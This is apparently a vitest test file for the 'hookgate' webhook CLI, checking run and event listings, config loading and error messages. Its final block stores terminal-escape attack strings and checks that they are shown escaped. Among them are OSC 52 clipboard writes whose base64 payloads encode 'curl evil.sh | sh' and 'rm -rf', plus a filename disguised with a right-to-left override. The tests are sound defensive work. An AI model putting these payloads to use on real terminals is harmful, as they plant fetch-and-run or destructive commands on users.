import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { command as events } from "../../src/commands/events.js";
import { command as runs } from "../../src/commands/runs.js";
import { SqliteStore } from "../../src/store/sqlite/store.js";
import type { NewRun } from "../../src/store/types.js";
import { runCommand } from "./command-helpers.js";

let dir: string;
let file: string;
let writer: SqliteStore;

beforeEach(async () => {
  dir = mkdtempSync(join(tmpdir(), "hookgate-cli-"));
  file = join(dir, "data", "state.db");
  // Stays open for the whole test, like a running server.
  writer = new SqliteStore(file);
  await writer.open();
});

afterEach(async () => {
  await writer.close();
  vi.restoreAllMocks();
  vi.unstubAllEnvs();
  rmSync(dir, { recursive: true, force: true });
});

async function cli(cmd: typeof events, argv: string[]): Promise<{ code: number; out: string; err: string }> {
  const { code, stdout, stderr } = await runCommand(cmd, argv);
  return { code, out: stdout, err: stderr };
}

const T0 = Date.UTC(2025, 4, 1, 10, 0, 0);

async function seedRuns(): Promise<void> {
  const base: Omit<NewRun, "id"> = {
    name: "GitHub",
    message: "New issue #42: login is broken",
    sessionKey: "hook:gh",
    wakeMode: "now",
    deliver: true,
    channel: "telegram",
    to: "123",
    receivedAt: T0,
  };
  for (const id of ["run-a", "run-b", "run-c"]) {
    await writer.acceptRun({ ...base, id });
  }
  await writer.claimRuns(2, T0 + 50);
  await writer.startRun("run-a", {
    resolvedAgentId: "main",
    resolvedModel: "openai/gpt-4o-mini",
    prompt: {
      runner: "llm",
      systemPrompt: "You triage webhooks.",
      transcriptMessages: 2,
      message: base.message,
      model: "openai/gpt-4o-mini",
      thinking: "low",
      timeoutSeconds: 600,
    },
  });
  await writer.finishRun(
    "run-a",
    {
      status: "succeeded",
      reply: "Login outage in #42.\nPage on-call.",
      usage: { promptTokens: 120, completionTokens: 40, totalTokens: 160 },
      finishedAt: T0 + 1450,
    },
    { delivery: { status: "pending", updatedAt: T0 + 1450 } },
  );
  await writer.setDelivery("run-a", {
    status: "sent",
    channel: "telegram",
    to: "123",
    messageIds: ["55"],
    attempts: 1,
    updatedAt: T0 + 1600,
  });
  await writer.finishRun("run-b", {
    status: "failed",
    error: "provider openai failed with HTTP 500: overloaded",
    finishedAt: T0 + 300,
  });
}

describe("hookgate runs", () => {
  it("lists runs newest first as a table, readable while the writer has the file open", async () => {
    await seedRuns();
    const { code, out } = await cli(runs, ["--store", file]);
    expect(code).toBe(0);
    expect(out).toBe(
      [
        "RUN ID  STATUS     RECEIVED              TOOK   AGENT  DELIVERY  NAME    RESULT",
        "run-c   queued     2025-05-01 10:00:00Z  -      -      -         GitHub",
        "run-b   failed     2025-05-01 10:00:00Z  250ms  -      -         GitHub  provider openai failed with HTTP 500: overloaded",
        "run-a   succeeded  2025-05-01 10:00:00Z  1.4s   main   sent      GitHub  Login outage in #42. Page on-call.",
        "",
      ].join("\n"),
    );
  });

  it("filters by status, session and limit; prints JSON", async () => {
    await seedRuns();
    const failed = await cli(runs, ["--store", file, "--status", "failed", "--json"]);
    expect(JSON.parse(failed.out).map((r: { id: string }) => r.id)).toEqual(["run-b"]);
    const limited = await cli(runs, ["--store", file, "--limit", "1", "--json"]);
    expect(JSON.parse(limited.out).map((r: { id: string }) => r.id)).toEqual(["run-c"]);
    const none = await cli(runs, ["--store", file, "--session", "hook:other"]);
    expect(none.out).toBe("No runs.\n");
  });

  it("shows one run: prompt sent, reply, timings, usage and delivery", async () => {
    await seedRuns();
    const { code, out } = await cli(runs, ["show", "run-a", "--store", file]);
    expect(code).toBe(0);
    expect(out).toBe(
      [
        "Run run-a",
        "  status    succeeded",
        "  name      GitHub",
        "  session   hook:gh",
        "  agent     main",
        "  model     openai/gpt-4o-mini",
        "  thinking  low",
        "  timeout   600s",
        "  received  2025-05-01 10:00:00Z",
        "  started   2025-05-01 10:00:00Z (waited 50ms)",
        "  finished  2025-05-01 10:00:01Z (took 1.4s)",
        "  usage     prompt 120, completion 40, total 160 tokens",
        "  delivery  sent — telegram 123; message ids 55; 1 attempt; at 2025-05-01 10:00:01Z",
        "",
        "Prompt sent (llm runner, 2 earlier session messages):",
        "  system:",
        "    You triage webhooks.",
        "  message:",
        "    New issue #42: login is broken",
        "",
        "Reply:",
        "    Login outage in #42.",
        "    Page on-call.",
        "",
      ].join("\n"),
    );
    const failed = await cli(runs, ["show", "run-b", "--store", file]);
    expect(failed.out).toContain("  error     provider openai failed with HTTP 500: overloaded");
    expect(failed.out).toContain("Reply: (none)");
    const json = await cli(runs, ["show", "run-a", "--store", file, "--json"]);
    expect(JSON.parse(json.out)).toMatchObject({
      id: "run-a",
      status: "succeeded",
      delivery: { status: "sent" },
    });
  });

  it("explains bad input and unknown runs", async () => {
    const unknown = await cli(runs, ["show", "nope", "--store", file]);
    expect(unknown.code).toBe(1);
    expect(unknown.err).toContain(`no run whose id is, starts with or ends with "nope" in ${file}`);
    const status = await cli(runs, ["--store", file, "--status", "done"]);
    expect(status.code).toBe(1);
    expect(status.err).toContain(
      '--status must be one of held, queued, running, succeeded, failed, timed_out, dropped, got "done"',
    );
    expect((await cli(runs, ["--store", file, "--limit", "0"])).err).toContain(
      "--limit must be a positive whole number",
    );
    expect((await cli(runs, ["list"])).err).toContain('unknown subcommand "list"');
    const help = await cli(runs, ["--help"]);
    expect(help.code).toBe(0);
    expect(help.out).toContain("hookgate runs show RUN_ID");
  });

  it("finds the store through --config", async () => {
    await seedRuns();
    const config = join(dir, "hookgate.yaml");
    writeFileSync(
      config,
      `hooks:\n  enabled: true\n  token: "a-long-enough-test-token-0123456789"\nstore:\n  path: data/state.db\n`,
    );
    const { code, out } = await cli(runs, ["--config", config, "--json"]);
    expect(code).toBe(0);
    expect(JSON.parse(out)).toHaveLength(3);
  });

  it("needs no hook token: a variable only the server's environment sets may be unset", async () => {
    await seedRuns();
    const config = join(dir, "hookgate.yaml");
    writeFileSync(
      config,
      // biome-ignore lint/suspicious/noTemplateCurlyInString: config syntax.
      "hooks:\n  enabled: true\n  token: ${HOOKGATE_TEST_SERVE_TOKEN}\nstore:\n  path: data/state.db\n",
    );
    expect(process.env["HOOKGATE_TEST_SERVE_TOKEN"]).toBeUndefined();
    const listed = await cli(runs, ["--config", config, "--json"]);
    expect(listed.err).toBe("");
    expect(listed.code).toBe(0);
    expect(JSON.parse(listed.out)).toHaveLength(3);
    const shown = await cli(runs, ["show", "run-a", "--config", config]);
    expect(shown.code).toBe(0);
    const listedEvents = await cli(events, ["--config", config, "--json"]);
    expect(listedEvents.err).toBe("");
    expect(listedEvents.code).toBe(0);
  });

  it("needs no secret at all: packs' secrets and channels' tokens may be unset, only the store is read", async () => {
    await seedRuns();
    vi.stubEnv("GITHUB_WEBHOOK_SECRET", undefined);
    const config = join(dir, "hookgate.yaml");
    writeFileSync(
      config,
      [
        "hooks:",
        "  enabled: true",
        '  token: "a-long-enough-test-token-0123456789"',
        "  presets: [github]",
        "channels:",
        // biome-ignore lint/suspicious/noTemplateCurlyInString: config syntax.
        '  telegram: { botToken: "${HOOKGATE_TEST_TELEGRAM_TOKEN}" }',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: config syntax.
        '  slack: { botToken: "${file:/nonexistent/slack-token}" }',
        "store:",
        "  path: data/state.db",
        "",
      ].join("\n"),
    );
    const listed = await cli(runs, ["--config", config, "--json"]);
    expect(listed.err).toBe("");
    expect(listed.code).toBe(0);
    expect(JSON.parse(listed.out)).toHaveLength(3);
    expect((await cli(runs, ["show", "run-a", "--config", config])).code).toBe(0);
    const listedEvents = await cli(events, ["--config", config, "--json"]);
    expect(listedEvents.err).toBe("");
    expect(listedEvents.code).toBe(0);
  });

  it("still reports the config's other errors, and how to skip the config", async () => {
    const config = join(dir, "hookgate.yaml");
    writeFileSync(config, "store:\n  kind: redis\n");
    const { code, err } = await cli(events, ["--config", config]);
    expect(code).toBe(1);
    expect(err).toBe(
      `hookgate events: ${config}:2:9: store.kind: expected one of "sqlite", "postgres", found "redis"\n(or name the database directly with --store FILE|URL)\n`,
    );
  });

  it("says so when there is no store yet", async () => {
    const missing = join(dir, "none.db");
    const { code, out, err } = await cli(runs, ["--store", missing, "--json"]);
    expect(code).toBe(0);
    expect(out).toBe("[]\n");
    expect(err).toContain(`no store at ${missing} yet`);
  });
});

describe("hookgate events", () => {
  it("lists events newest first with their state, or only pending ones", async () => {
    const wake = (text: string, at: number) =>
      writer.acceptWake({ text, mode: "now", source: "wake", receivedAt: at });
    await wake("deploy finished", T0);
    await wake("deploy finished", T0 + 1);
    await wake("backup\nfailed", T0 + 2);
    const [first] = await writer.pendingEvents();
    await writer.consumeEvents([first!.id], T0 + 5);

    const table = await cli(events, ["--store", file]);
    expect(table.out).toBe(
      [
        "ID  RECEIVED              STATUS    SOURCE  TEXT",
        "2   2025-05-01 10:00:00Z  pending   wake    backup failed",
        "1   2025-05-01 10:00:00Z  consumed  wake    deploy finished (×2)",
        "",
      ].join("\n"),
    );
    const pending = await cli(events, ["--store", file, "--pending", "--json"]);
    expect(JSON.parse(pending.out).map((e: { text: string }) => e.text)).toEqual(["backup\nfailed"]);
  });

  it("lists heartbeats", async () => {
    await writer.recordHeartbeat({
      reason: "now",
      status: "replied",
      startedAt: T0,
      finishedAt: T0 + 900,
      eventIds: [1, 2],
      reply: "Backup failed on db1; check the disk.",
      delivery: { status: "sent", updatedAt: T0 + 950 },
    });
    const { out } = await cli(events, ["--store", file, "--heartbeats"]);
    expect(out).toBe(
      [
        "ID  STARTED               REASON  STATUS   EVENTS  DELIVERY  REPLY / ERROR",
        "1   2025-05-01 10:00:00Z  now     replied  2       sent      Backup failed on db1; check the disk.",
        "",
      ].join("\n"),
    );
  });

  it("prints an empty listing and its help", async () => {
    expect((await cli(events, ["--store", file])).out).toBe("No events.\n");
    expect((await cli(events, ["--help"])).out).toContain("--heartbeats");
    expect((await cli(events, ["--bogus"])).code).toBe(1);
  });
});

describe("sender text on the operator's terminal", () => {
  // Erase line, OSC 52 clipboard write ended by BEL and by ST, CSI colour, the one-byte C1 CSI, and a
  // right-to-left override that makes `exe.pdf` read as `fdp.exe`.
  const ATTACKS = [
    "ok\x1b[2K\x1b[1A",
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "\x1b]52;c;cm0gLXJm\x1b\\",
    "\x1b[31mred",
    "\u009b2J",
    "invoice_\u202efdp.exe",
  ];
  const EVIL = ATTACKS.join(" | ");
  const RAW_CONTROL = /[\0-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

  /** No raw control character anywhere but in the line breaks between rows and lines. */
  function expectNoRawControl(out: string): void {
    expect(out).not.toMatch(RAW_CONTROL);
  }

  it("events and heartbeats show escapes, and --json keeps the exact text", async () => {
    await writer.acceptWake({ text: EVIL, mode: "now", source: "mail\x1b[8m", receivedAt: T0 });
    await writer.recordHeartbeat({
      reason: "now",
      status: "replied",
      startedAt: T0,
      finishedAt: T0 + 1,
      eventIds: [1],
      reply: "\x1b]52;c;ZXZpbA==\x07done",
    });
    const table = await cli(events, ["--store", file]);
    expectNoRawControl(table.out);
    expect(table.out).toContain("ok\\x1b[2K\\x1b[1A | \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 |");
    expect(table.out).toContain("mail\\x1b[8m");
    const beats = await cli(events, ["--store", file, "--heartbeats"]);
    expectNoRawControl(beats.out);
    expect(beats.out).toContain("\\x1b]52;c;ZXZpbA==\\x07done");
    const json = await cli(events, ["--store", file, "--json"]);
    expect(JSON.parse(json.out)[0]).toMatchObject({ text: EVIL, source: "mail\x1b[8m" });
  });

  it("runs and runs show escape every field; show keeps the line breaks of prompt and reply", async () => {
    await writer.acceptRun({
      id: "run-evil",
      name: `Mail ${ATTACKS[0]}`,
      message: `Subject: ${ATTACKS[1]}\nBody: ${ATTACKS[5]}`,
      agentId: "ops\x1b[2K",
      sessionKey: "hook:mail:\u009b2J",
      model: "m\u202e",
      wakeMode: "now",
      deliver: true,
      channel: "telegram",
      to: "123\x1b[A",
      mappingId: "map\x07",
      receivedAt: T0,
    });
    await writer.claimRuns(1, T0 + 1);
    await writer.startRun("run-evil", {
      resolvedAgentId: "ops\x1b[2K",
      prompt: {
        runner: "llm",
        systemPrompt: `sys ${ATTACKS[2]}`,
        transcriptMessages: 0,
        message: `Subject: ${ATTACKS[1]}\nBody: ${ATTACKS[5]}`,
        timeoutSeconds: 60,
      },
    });
    await writer.finishRun("run-evil", {
      status: "failed",
      reply: `line one ${ATTACKS[3]}\r\nline two ${ATTACKS[4]}`,
      error: `bad\nforged line ${ATTACKS[0]}`,
      finishedAt: T0 + 2,
    });
    await writer.setDelivery("run-evil", {
      status: "failed",
      messageIds: ["\x1b[2K"],
      reason: "refused \u2066x\u2069",
      updatedAt: T0 + 3,
    });

    const list = await cli(runs, ["--store", file]);
    expect(list.code).toBe(0);
    expectNoRawControl(list.out);
    expect(list.out.split("\n")).toHaveLength(3);
    expect(list.out).toContain("Mail ok\\x1b[2K\\x1b[1A");

    const show = await cli(runs, ["show", "run-evil", "--store", file]);
    expect(show.code).toBe(0);
    expectNoRawControl(show.out);
    for (const shown of [
      "  name      Mail ok\\x1b[2K\\x1b[1A",
      "  session   hook:mail:\\x9b2J",
      "  agent     ops\\x1b[2K",
      "  mapping   map\\x07",
      "  error     bad\\nforged line ok\\x1b[2K\\x1b[1A",
      "    sys \\x1b]52;c;cm0gLXJm\\x1b\\",
      "    Subject: \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07",
      "    Body: invoice_\\u202efdp.exe",
      "    line one \\x1b[31mred\\r",
      "    line two \\x9b2J",
    ])
      expect(show.out.split("\n")).toContain(shown);
    expect(show.out).toContain("failed — telegram 123\\x1b[A; message ids \\x1b[2K; refused \\u2066x\\u2069");
    expect(show.out).not.toMatch(/^forged line/m);

    const json = await cli(runs, ["show", "run-evil", "--store", file, "--json"]);
    expect(JSON.parse(json.out)).toMatchObject({
      name: `Mail ${ATTACKS[0]}`,
      reply: `line one ${ATTACKS[3]}\r\nline two ${ATTACKS[4]}`,
      delivery: { reason: "refused \u2066x\u2069" },
    });
  });
});
